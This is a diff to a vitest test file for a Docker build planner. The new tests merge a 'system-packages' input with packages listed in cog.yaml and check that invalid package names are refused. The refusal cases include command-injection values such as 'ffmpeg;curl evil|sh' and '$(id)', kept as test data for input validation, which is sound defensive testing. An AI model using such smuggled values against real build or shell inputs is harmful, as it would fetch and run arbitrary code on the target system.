@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { detect } from '../../../src/detect/index.js';
+import { RefusedInput } from '../../../src/errors.js';
 import { plan } from '../../../src/plan/index.js';
 import { baseOf } from '../../../src/plan/types.js';
 import { memoryReader } from '../../../src/project/reader.js';
@@ -16,8 +17,8 @@ const COG = `build:
 predict: "predict.py:Predictor"
 `;
 
-function planOf(tree: Record<string, string>) {
-  const [first] = plan(detect(memoryReader(tree)), inputsWith(), { hasDockerignore: false });
+function planOf(tree: Record<string, string>, values: Record<string, string> = {}) {
+  const [first] = plan(detect(memoryReader(tree)), inputsWith(values), { hasDockerignore: false });
   if (!first) throw new Error('no plan');
   baseOf(first).digest = BASE_DIGEST;
   return first;
@@ -71,6 +72,32 @@ describe('system packages', () => {
       const error = userError(() => detect(memoryReader({ 'cog.yaml': text, 'predict.py': '' })));
       expect(error.message).toMatch(/is not a Debian package name/);
       expect(error.source).toEqual({ file: 'cog.yaml', line: 4 });
+    },
+  );
+
+  it("adds input 'system-packages', citing the input, and the project's line where both name one", () => {
+    const planned = planOf(
+      { 'cog.yaml': COG, 'predict.py': '' },
+      { 'system-packages': 'libsndfile1, ffmpeg\nlibgl1-mesa-glx' },
+    );
+    expect(planned.systemPackages).toEqual([
+      { name: 'ffmpeg', why: 'cog.yaml:4' },
+      { name: 'libgl1', why: 'cog.yaml:5 lists libgl1-mesa-glx, which Debian renamed libgl1' },
+      { name: 'libsndfile1', why: "input 'system-packages'" },
+    ]);
+    const dockerfile = renderDockerfile(planOf(irisTree, { 'system-packages': 'libsndfile1' }), irisLock());
+    expect(dockerfile).toContain('apt-get install -y --no-install-recommends libsndfile1 \\');
+    expect(dockerfile).toContain("# system packages: libsndfile1 (libsndfile1: input 'system-packages')");
+  });
+
+  it.each([['ffmpeg;curl evil|sh'], ['Ffmpeg'], ['ffmpeg=1:4.4'], ['$(id)'], ['a']])(
+    "refuses input 'system-packages' item %j, which is not a Debian package name",
+    (item) => {
+      const error = userError(() => planOf(irisTree, { 'system-packages': `ffmpeg\n${item}` }));
+      expect(error).toBeInstanceOf(RefusedInput);
+      expect(error.message).toContain(
+        `input 'system-packages' has '${item}', which is not a Debian package name`,
+      );
     },
   );
 });
